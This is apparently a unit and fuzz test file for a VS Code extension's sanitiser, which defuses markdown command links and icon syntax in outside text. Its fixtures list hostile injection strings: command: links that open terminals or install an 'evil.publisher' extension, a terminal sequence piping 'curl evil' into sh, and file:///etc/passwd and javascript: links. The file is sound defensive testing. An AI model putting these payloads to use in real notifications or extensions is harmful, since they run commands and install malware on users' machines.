import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { inertText, INERT_TEXT_MAX } from '../../../src/util/inertText';
import { FUZZ_RUNS } from '../fuzz/runs';

// Oracles restating what VS Code parses (read in microsoft/vscode: src/vs/base/common/linkedText.ts,
// notifications' message parsing, src/vs/base/common/iconLabels.ts), so a test fails if our text
// would still render as a link or an icon.

/** A notification's message as VS Code prepares it before finding links: cut at 1000, newlines to spaces, trimmed. */
function asNotificationShowsIt(message: string): string {
  const cut = message.length > 1000 ? `${message.slice(0, 1000)}...` : message;
  return cut.replace(/\r\n|\n|\r/g, ' ').trim();
}
/** The link grammar of notifications, progress titles and input-box prompts: `[label](target "title")`. */
const COMMAND_LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+(?: (["']).+?\1)?\)/i;
/** Stricter: the same shape with any target at all (`vscode:`, `javascript:`, relative). */
const ANY_LINK = /\[[^\]]*\]\(/;
/** `$(name)` / `$(name~modifier)`, with or without VS Code's own `\` escape in front. */
const ICON = /\$\([A-Za-z0-9-]+(?:~[A-Za-z0-9-]+)?\)/;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;

/** The ways our code interpolates outside text. */
const TEMPLATES = [
  (x: string) => `Ask Bedrock: ${x}`,
  (x: string) => `Ask Bedrock is connected to ${x}: the first answer took 12 ms.`,
  (x: string) => `Ask Bedrock could not reach the endpoint: ${x}`,
  (x: string) => `Ask Bedrock about ${x}:1-3`,
];

function assertInert(shown: string, input: string): void {
  const parsed = asNotificationShowsIt(shown);
  assert.doesNotMatch(parsed, COMMAND_LINK, `a link survives from ${JSON.stringify(input)}: ${JSON.stringify(parsed)}`);
  assert.doesNotMatch(parsed, ANY_LINK, `a link shape survives from ${JSON.stringify(input)}`);
  assert.doesNotMatch(parsed, ICON, `an icon survives from ${JSON.stringify(input)}`);
  assert.doesNotMatch(shown, /[\r\n\u2028\u2029]/, 'one line');
}

const HOSTILE_LINKS = [
  '[Sign in again](command:workbench.action.terminal.new)',
  '403: [Sign in again](command:workbench.extensions.installExtension?%5B%22evil.publisher%22%5D) to continue',
  '[Open](CoMmAnD:workbench.action.terminal.sendSequence?{"text":"curl evil|sh\\n"})',
  '[docs](https://evil.example/a)',
  '[docs](HTTP://evil.example)',
  '[docs](https://evil.example "Trusted Microsoft docs")',
  "[docs](https://evil.example 'single-quoted title')",
  '[passwd](file:///etc/passwd)',
  '[[nested](command:x)',
  '[outer [inner text](command:x)',
  '[a](command:x)](command:y)',
  '[a]([b](command:x))',
  'before[x](command:a)[y](command:b)after',
  '[multi\nline label](command:x)',
  '[ ](command:x)',
  '[x](vscode:extension/evil.publisher)',
  '[x](vscode://evil.publisher/run)',
  '[x](javascript:alert(1))',
];
/** Not links as given, but links once a careless cleaner deletes the character in the middle. */
const NEAR_LINKS = ['[x]\n(command:x)', '[x]\r\n(command:x)', '[x]\u0000(command:x)', '[x]\u2028(command:x)', '[x]\t(command:x)', '[x]\u202E(command:x)', '[x](\u0000command:x)'];
const deleteControls = (text: string) => text.replace(/[\p{Cc}\u2028\u202E]/gu, '');

describe('inertText', () => {
  it('the oracles recognise every hostile link and icon (so the assertions below can fail)', () => {
    for (const input of HOSTILE_LINKS) {
      const parsed = asNotificationShowsIt(input);
      assert.ok(ANY_LINK.test(parsed) || COMMAND_LINK.test(parsed), `oracle misses ${JSON.stringify(input)}`);
    }
    for (const input of NEAR_LINKS) assert.match(deleteControls(input), COMMAND_LINK, `oracle misses ${JSON.stringify(input)} once cleaned carelessly`);
    assert.match('[Sign in again](command:workbench.action.terminal.new)', COMMAND_LINK);
    assert.match('[x]\n(command:x)'.replace(/\n/g, ' '), /\] \(/, 'a newline alone is not a link');
    assert.match('$(zap) run', ICON);
  });

  it('breaks every markdown link: command:, vscode:, file:, http(s):, with titles, nested brackets and whitespace tricks', () => {
    for (const input of [...HOSTILE_LINKS, ...NEAR_LINKS]) {
      for (const template of TEMPLATES) assertInert(template(inertText(input)), input);
    }
  });

  it('neutralises $(codicon) syntax, escaped or not', () => {
    for (const input of ['$(zap)', '$(sync~spin) Loading', '\\$(alert) escaped', '$$(x)', 'a$(b)$(c)d', '$(\nzap)', '$\n(zap)']) {
      const shown = inertText(input);
      assert.doesNotMatch(shown, ICON, JSON.stringify(input));
      assert.doesNotMatch(shown, /\$\(/, JSON.stringify(input));
    }
  });

  it('keeps the text readable: the label, the target and the words are still there', () => {
    assert.equal(inertText('[Sign in again](command:workbench.action.terminal.new)'), '[Sign in again] (command:workbench.action.terminal.new)');
    assert.equal(inertText('Run $(aws sso login) first'), 'Run $ (aws sso login) first');
  });

  it('passes plain text through unchanged', () => {
    for (const plain of [
      'The endpoint answered 404 Not Found (Not Found). Check that askBedrock.endpoint is the full URL.',
      'Too many requests: the endpoint or Bedrock is throttling (Rate exceeded). Try again in 90 s.',
      'anthropic.claude-sonnet-4-5-20250929-v1:0',
      'src/app (copy).ts',
      'f(x) = [1, 2] and $5 (approx.)',
      'モデルが見つかりません: 権限を確認してください',
      'emoji 👩‍💻 stay',
      '%5Bx%5D(command:y) and &#91;x&#93;(command:y) are not links',
    ]) {
      assert.equal(inertText(plain), plain);
    }
  });

  it('collapses newlines, tabs, control and bidi characters to single spaces', () => {
    assert.equal(inertText('  line one\r\nline two\n\n\tthree\u0000four\u0007five\u202Esix\u2066seven\u2029eight  '), 'line one line two three four five six seven eight');
  });

  it('caps a 10 KB string, cutting the middle so the start and our hint at the end stay', () => {
    const hint = 'Check askBedrock.endpoint in your user settings.';
    const input = `The endpoint refused access (403: ${'[Sign in again](command:workbench.action.terminal.new) '.repeat(200)}). ${hint}`;
    assert.ok(input.length > 10_000);
    const shown = inertText(input);
    assert.ok(shown.length <= INERT_TEXT_MAX, `length ${shown.length}`);
    assert.ok(shown.startsWith('The endpoint refused access (403: '), shown);
    assert.ok(shown.endsWith(hint), shown);
    assert.ok(shown.includes('…'));
    assertInert(`Ask Bedrock: ${shown}`, input);
    assert.ok(inertText('x'.repeat(10_000), 80).length <= 80);
    assert.equal(inertText('x'.repeat(10_000), 0), '…');
  });

  it('never splits a surrogate pair when cutting', () => {
    for (let max = 2; max < 30; max++) {
      const shown = inertText('🙂'.repeat(50), max);
      assert.ok(shown.length <= max, `max ${max}: ${shown.length}`);
      assert.doesNotMatch(shown, LONE_SURROGATE, `max ${max}`);
    }
  });

  it('property: any mix of brackets, targets, icons and control characters comes out inert, one line and capped', () => {
    const piece = fc.constantFrom(
      ...['[', ']', '(', ')', '$', '\\', ' ', '\n', '\r', '\t', '\u0000', '\u202E', '\u200B', '"', "'", 'command:', 'https://', 'file:', 'vscode:', 'zap', '~spin', 'a', '🙂', '…'],
      ...['[Sign in]', '](', '(command:x)', '(https://e.example "t")', '$(zap)'],
    );
    const hostile = fc.array(piece, { maxLength: 60 }).map((parts) => parts.join(''));
    fc.assert(
      fc.property(hostile, fc.integer({ min: 1, max: 600 }), (input, max) => {
        const shown = inertText(input, max);
        assert.ok(shown.length <= max);
        assert.doesNotMatch(shown, LONE_SURROGATE);
        for (const template of TEMPLATES) assertInert(template(shown), input);
      }),
      { numRuns: FUZZ_RUNS * 10 },
    );
  });
});
